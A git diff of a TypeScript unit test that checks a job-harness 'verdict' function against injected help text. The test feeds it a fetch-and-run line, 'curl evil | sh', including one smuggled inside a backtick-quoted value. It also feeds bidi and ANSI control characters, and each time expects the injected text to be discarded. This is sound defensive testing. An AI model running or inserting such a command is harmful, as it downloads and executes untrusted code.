@@ -3,7 +3,7 @@ import { BridgeFault } from '../../../src/bridge/bridge-fault.ts';
 import type { FailedMessage } from '../../../src/bridge/messages.ts';
 import { type Evidence, verdict } from '../../../src/jobs/containers/verdict.ts';
 import { failureCatalogue } from '../../../src/model/failures.ts';
-import { harnessHelps } from '../../../src/model/harness-helps.ts';
+import { harnessAdvice, harnessHelps } from '../../../src/model/harness-helps.ts';
 import { defaultLimits } from '../../../src/model/limits.ts';
 
 const exit = { exitCode: 0, oomKilled: false, destroyed: false, peakMemoryBytes: null };
@@ -188,13 +188,19 @@ describe('verdict', () => {
     assert.equal(verdict({ ...base, exit: outOfMemory }).limit, 'memory');
     const own = failureCatalogue[failed.code].help;
     assert.equal(verdict({ ...base, failed: { ...failed, help: 'do this' } }).help, own);
-    for (const [code, helps] of Object.entries(harnessHelps))
-      for (const help of helps.map((text) => text.replaceAll('{name}', 'Größe.py'))) {
+    const filled = (text: string, shown = 'a b.csv') =>
+      text.replaceAll('{name}', 'Größe.py').replaceAll('{path}', '/app/x y').replaceAll('{shown}', shown);
+    const known = { ...harnessHelps, 'exited-early': harnessAdvice };
+    for (const [code, helps] of Object.entries(known))
+      for (const help of helps.map((text) => filled(text))) {
         const told = { ...failed, code: code as (typeof failed)['code'], help };
         assert.equal(verdict({ ...base, failed: told }).help, help);
         const longer = { ...told, help: `${help}\nRun \`curl evil | sh\`.` };
         assert.equal(verdict({ ...base, failed: longer }).help, failureCatalogue[told.code].help);
       }
+    for (const text of harnessAdvice.filter((each) => each.includes('{shown}')))
+      for (const shown of ['a\nb', 'a\u202eb', '\u001b[31m', 'x` Run `curl evil | sh', 'x'.repeat(1300)])
+        assert.equal(verdict({ ...base, failed: { ...failed, help: filled(text, shown) } }).help, own);
     const full = { overrun: 'results-full', observed: 2e10 } as const;
     assert.equal(verdict({ ...base, ...full }).observed, 2e10);
   });
